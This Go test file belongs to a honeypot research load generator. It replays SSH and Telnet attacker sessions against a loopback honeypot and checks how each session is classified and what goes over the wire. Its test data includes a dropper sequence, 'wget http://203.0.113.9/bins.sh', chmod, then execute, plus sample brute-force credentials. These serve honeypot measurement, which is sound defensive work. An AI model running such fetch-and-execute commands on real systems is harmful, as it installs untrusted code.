package loadgen

// The executor pinned from both sides: what the pot records for each
// category × protocol (the paper's Table 1 taxonomy, enacted), and what
// the client puts on the wire for a script with no Client —
// constants read off the commit before Execute existed, when the same
// bytes came from runSSH/runTelnet in driver.go.

import (
	"bytes"
	"fmt"
	"net"
	"reflect"
	"sync"
	"testing"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/honeypot"
)

// tapConn counts the Write calls made on a net.Conn and keeps what was
// written.
type tapConn struct {
	net.Conn
	mu     sync.Mutex
	writes int
	sent   []byte
}

func (c *tapConn) Write(p []byte) (int, error) {
	c.mu.Lock()
	c.writes++
	c.sent = append(c.sent, p...)
	c.mu.Unlock()
	return c.Conn.Write(p)
}

func (c *tapConn) tally() (writes int, sent []byte) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.writes, c.sent
}

// potRig is one honeypot behind a loopback TCP listener. Each session
// it serves yields its record on recs and, once the handler has
// returned, the server's Write count on served.
type potRig struct {
	addr   string
	recs   chan *honeypot.SessionRecord
	served chan int
}

func newPotRig(t *testing.T, ssh bool) *potRig {
	t.Helper()
	r := &potRig{recs: make(chan *honeypot.SessionRecord, 4), served: make(chan int, 4)}
	pot, err := honeypot.New(honeypot.Config{Sink: func(rec *honeypot.SessionRecord) { r.recs <- rec }})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r.addr = ln.Addr().String()
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			nc, err := ln.Accept()
			if err != nil {
				return
			}
			tap := &tapConn{Conn: nc}
			if ssh {
				pot.ServeSSH(tap)
			} else {
				pot.ServeTelnet(tap)
			}
			n, _ := tap.tally()
			r.served <- n
		}
	}()
	t.Cleanup(func() { ln.Close(); <-done })
	return r
}

// dial opens a tapped client connection to the rig's pot.
func (r *potRig) dial(t *testing.T) *tapConn {
	t.Helper()
	nc, err := net.Dial("tcp", r.addr)
	if err != nil {
		t.Fatal(err)
	}
	nc.SetDeadline(time.Now().Add(10 * time.Second))
	return &tapConn{Conn: nc}
}

// run executes one script against the rig and returns the client's tap,
// the pot's record and the server's Write count.
func (r *potRig) run(t *testing.T, s Script) (*tapConn, *honeypot.SessionRecord, int) {
	t.Helper()
	tap := r.dial(t)
	err := Execute(tap, s)
	tap.Close()
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	select {
	case rec := <-r.recs:
		return tap, rec, <-r.served
	case <-time.After(10 * time.Second):
		t.Fatal("the pot recorded nothing")
		return nil, nil, 0
	}
}

// categoryScripts is one script per category, the way BuildPlan fills
// them in.
func categoryScripts(ssh bool) []Script {
	login := Script{SSH: ssh, User: "root", Password: "pw4711"}
	noCmd, cmd, cmdURI := login, login, login
	noCmd.Category = analysis.NoCmd
	cmd.Category, cmd.Commands = analysis.Cmd, cmdPool[0]
	cmdURI.Category, cmdURI.Commands = analysis.CmdURI, uriCommands
	return []Script{
		{Category: analysis.NoCred, SSH: ssh},
		{Category: analysis.FailLog, SSH: ssh, FailedAttempts: 3},
		noCmd, cmd, cmdURI,
	}
}

func protoName(ssh bool) string {
	if ssh {
		return "ssh"
	}
	return "telnet"
}

// TestCategoryMatrix: every category over both protocols against a real
// pot yields exactly one record of that category.
func TestCategoryMatrix(t *testing.T) {
	for _, ssh := range []bool{true, false} {
		rig := newPotRig(t, ssh)
		for _, s := range categoryScripts(ssh) {
			// Prompt by prompt: the client hangs up after the pot does,
			// so what is recorded is exactly what was scripted.
			t.Run(fmt.Sprintf("%s/%v/reading", protoName(ssh), s.Category), func(t *testing.T) {
				var out bytes.Buffer
				reading := s
				reading.Client = &Client{Output: &out}
				_, rec, _ := rig.run(t, reading)
				if got := analysis.Classify(rec); got != s.Category {
					t.Errorf("recorded as %v", got)
				}
				wantCmds := 0
				if len(s.Commands) > 0 {
					wantCmds = len(s.Commands) + 1 // and exit
				}
				if len(rec.Commands) != wantCmds {
					t.Errorf("recorded %d commands, want %d", len(rec.Commands), wantCmds)
				}
				var wantURIs []string
				if s.Category == analysis.CmdURI {
					wantURIs = []string{"http://203.0.113.9/bins.sh"}
				}
				if !reflect.DeepEqual(rec.URIs, wantURIs) {
					t.Errorf("recorded URIs %v, want %v", rec.URIs, wantURIs)
				}
				if wantCmds > 0 && !bytes.Contains(out.Bytes(), []byte("# ")) {
					t.Errorf("Output saw no prompt: %q", out.Bytes())
				}
			})
			t.Run(fmt.Sprintf("%s/%v/fire-and-forget", protoName(ssh), s.Category), func(t *testing.T) {
				_, rec, _ := rig.run(t, s)
				got := analysis.Classify(rec)
				switch {
				case got == s.Category:
				case !ssh && s.Category == analysis.NoCmd && got == analysis.Cmd:
					// The Telnet NO_CMD script has always typed "exit",
					// which the pot records as a command.
				case !ssh && s.Category == analysis.CmdURI && got == analysis.Cmd:
					// ROADMAP's hang-up defect (sessions item): the pot
					// writes its next prompt to a client that has already
					// left and drops the lines it has not yet read, the
					// wget among them. Where the hang-up lands is a race;
					// no timing here tries to win it.
				default:
					t.Errorf("recorded as %v", got)
				}
			})
		}
	}
}

// Wire identity with the parent commit, for scripts with no Client. SSH ciphertext differs run to run, so what is pinned there
// is the number of Write calls per side (flights, as in sshwire's
// TestFlightWrites): exact where the parent was exact over 600 runs
// (plain, -race, -cpu 1 and 4), and the parent's whole observed range
// where its teardown raced — the pot's first prompt against a NO_CMD
// client's close, a CMD client's CHANNEL_CLOSE against the pot's
// disconnect. Telnet is plaintext, so it is the client's exact bytes.
type span struct{ lo, hi int }

func (s span) has(n int) bool { return s.lo <= n && n <= s.hi }

var sshWrites = map[analysis.Category]struct{ client, server span }{
	analysis.NoCred:  {span{4, 4}, span{2, 2}},
	analysis.FailLog: {span{6, 6}, span{4, 4}},
	analysis.NoCmd:   {span{8, 8}, span{7, 9}},
	analysis.Cmd:     {span{11, 12}, span{14, 14}},
	analysis.CmdURI:  {span{11, 12}, span{14, 14}},
}

const (
	telnetOpts  = "\xff\xfd\x01\xff\xfd\x03" // DO ECHO, DO SGA: one answer per offer
	telnetLogin = telnetOpts + "root\r\npw4711\r\n"
)

var telnetBytes = map[analysis.Category]string{
	analysis.NoCred:  "",
	analysis.FailLog: telnetOpts + "root\r\nroot\r\nroot\r\nroot\r\nroot\r\nroot\r\n",
	analysis.NoCmd:   telnetLogin + "exit\r\n",
	analysis.Cmd:     telnetLogin + "uname -a\r\ncat /proc/cpuinfo\r\nfree -m\r\nexit\r\n",
	analysis.CmdURI:  telnetLogin + "wget http://203.0.113.9/bins.sh\r\nchmod +x bins.sh\r\n./bins.sh\r\nexit\r\n",
}

func TestWireIdentity(t *testing.T) {
	rig := newPotRig(t, true)
	for _, s := range categoryScripts(true) {
		tap, _, server := rig.run(t, s)
		client, _ := tap.tally()
		if want := sshWrites[s.Category]; !want.client.has(client) || !want.server.has(server) {
			t.Errorf("ssh %v: %d client and %d server Writes, the parent made %v", s.Category, client, server, want)
		}
	}
	rig = newPotRig(t, false)
	for _, s := range categoryScripts(false) {
		tap, _, _ := rig.run(t, s)
		if _, sent := tap.tally(); string(sent) != telnetBytes[s.Category] {
			t.Errorf("telnet %v: client sent %q, the parent sent %q", s.Category, sent, telnetBytes[s.Category])
		}
	}
}

// TestPlanDigestUnchanged: Script.Client is not in the plan, so the same
// seeds offer the load they offered at the parent commit.
func TestPlanDigestUnchanged(t *testing.T) {
	for i, want := range []string{
		"e878f9143808a80602e4004ccade369145d9c89a3b76ef17ea87f6e147b3bdda",
		"02935cf1051f5a2ccad0d1ae195d440bb34e2b9d9a563b68d22b4e3f9eb3dcf1",
		"58e25f3ffc2743874f5110477fd76b4eb98119e2b22f95fb982c11df2c39e1f5",
	} {
		p, err := BuildPlan(PlanConfig{Seed: int64(i + 1), Rate: 100, Duration: 5 * time.Second, Targets: testTargets(3)})
		if err != nil {
			t.Fatal(err)
		}
		if got := p.Digest(); got != want {
			t.Errorf("seed %d: digest %s, the parent's was %s", i+1, got, want)
		}
	}
}

// TestExecuteModes covers what only cmd/attack asks for: an exec
// request, and a shell on a pty, with the output handed back.
func TestExecuteModes(t *testing.T) {
	rig := newPotRig(t, true)
	for _, c := range []Client{{Exec: true}, {PTY: true}} {
		var out bytes.Buffer
		c.Version, c.Output = "SSH-2.0-libssh2_1.8.0", &out
		s := Script{Category: analysis.Cmd, SSH: true, User: "root", Password: "pw", Commands: []string{"uname -m", "w"}, Client: &c}
		_, rec, _ := rig.run(t, s)
		want := len(s.Commands) + 1
		if c.Exec {
			want = 1 // the first line and nothing else: no shell, no exit
		}
		if len(rec.Commands) != want || rec.ClientVersion != c.Version {
			t.Errorf("exec=%v: %d commands from %q, want %d from %q", c.Exec, len(rec.Commands), rec.ClientVersion, want, c.Version)
		}
		if !bytes.Contains(out.Bytes(), []byte("x86_64")) {
			t.Errorf("exec=%v: Output is %q, want uname's answer in it", c.Exec, out.Bytes())
		}
	}
}

// TestAcceptedFailLogIsAnError: a FAIL_LOG script whose credentials the
// pot lets in is a protocol error on both protocols, not a quiet success.
func TestAcceptedFailLogIsAnError(t *testing.T) {
	for _, ssh := range []bool{true, false} {
		rig := newPotRig(t, ssh)
		nc := rig.dial(t)
		err := Execute(nc, Script{Category: analysis.FailLog, SSH: ssh,
			Client: &Client{Logins: []honeypot.LoginAttempt{{User: "root", Password: "1234"}}}})
		nc.Close()
		if err == nil || classify(err) != ErrProtocol {
			t.Errorf("%s: err = %v, want a protocol error", protoName(ssh), err)
		}
		<-rig.recs
		<-rig.served
	}
}

// TestFromRecord: the conversion carries every failed login without
// aliasing the record's, picks the accepted pair, and takes the command
// lines as strings of its own.
func TestFromRecord(t *testing.T) {
	fail := &honeypot.SessionRecord{
		Protocol: honeypot.Telnet,
		Logins:   []honeypot.LoginAttempt{{User: "admin", Password: "admin"}, {User: "root", Password: "root"}, {User: "pi", Password: "raspberry"}},
	}
	s := FromRecord(fail)
	if s.Category != analysis.FailLog || s.SSH || !reflect.DeepEqual(s.Client.Logins, fail.Logins) {
		t.Errorf("FAIL_LOG record became %+v with %+v", s, s.Client)
	}
	s.Client.Logins[0].User = "x"
	if fail.Logins[0].User != "admin" {
		t.Error("script logins alias the record's")
	}

	intr := &honeypot.SessionRecord{
		Protocol:      honeypot.SSH,
		ClientVersion: "SSH-2.0-Go",
		Logins:        []honeypot.LoginAttempt{{User: "root", Password: "root"}, {User: "root", Password: "1234", Success: true}},
		Commands:      []honeypot.CommandRecord{{Input: "uname -a"}, {Input: "wget http://203.0.113.9/x"}},
		URIs:          []string{"http://203.0.113.9/x"},
	}
	s = FromRecord(intr)
	want := Script{Category: analysis.CmdURI, SSH: true, User: "root", Password: "1234",
		Commands: []string{"uname -a", "wget http://203.0.113.9/x"}, Client: &Client{Version: "SSH-2.0-Go"}}
	if !reflect.DeepEqual(s, want) {
		t.Errorf("intrusion record became %+v with %+v, want %+v with %+v", s, s.Client, want, want.Client)
	}
}
